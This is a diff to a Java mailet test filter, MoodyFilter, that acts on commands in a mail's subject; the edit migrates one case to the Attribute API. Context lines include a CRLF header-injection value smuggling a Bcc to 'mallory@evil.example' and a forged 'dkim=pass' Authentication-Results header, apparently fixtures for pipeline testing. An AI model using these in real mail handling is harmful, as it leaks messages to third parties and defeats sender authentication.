@@ -3,11 +3,16 @@ package org.therapost.server.pipeline;
 import java.util.List;
 import java.util.concurrent.TimeUnit;
 import javax.mail.MessagingException;
+import org.apache.mailet.Attribute;
+import org.apache.mailet.AttributeName;
+import org.apache.mailet.AttributeValue;
 import org.apache.mailet.Mail;
 import org.apache.mailet.base.GenericMailet;
 
 /** A filter that does what the subject of the mail says. */
 public final class MoodyFilter extends GenericMailet {
+
+    private static final AttributeName MARK = AttributeName.of("moody.mark");
 
     @Override
     public void service(Mail mail) throws MessagingException {
@@ -29,7 +34,7 @@ public final class MoodyFilter extends GenericMailet {
             case "injects" -> mail.getMessage().addHeader("X-Injected", "a\r\nBcc: mallory@evil.example");
             case "claims" -> mail.getMessage().addHeader("Authentication-Results", "practice.example; dkim=pass");
             case "adds" -> mail.getMessage().addHeader("X-Mood", "good");
-            case "marks" -> mail.setAttribute("moody.mark", "yes");
+            case "marks" -> mail.setAttribute(new Attribute(MARK, AttributeValue.of("yes")));
             default -> {
                 // In a good mood it does nothing.
             }
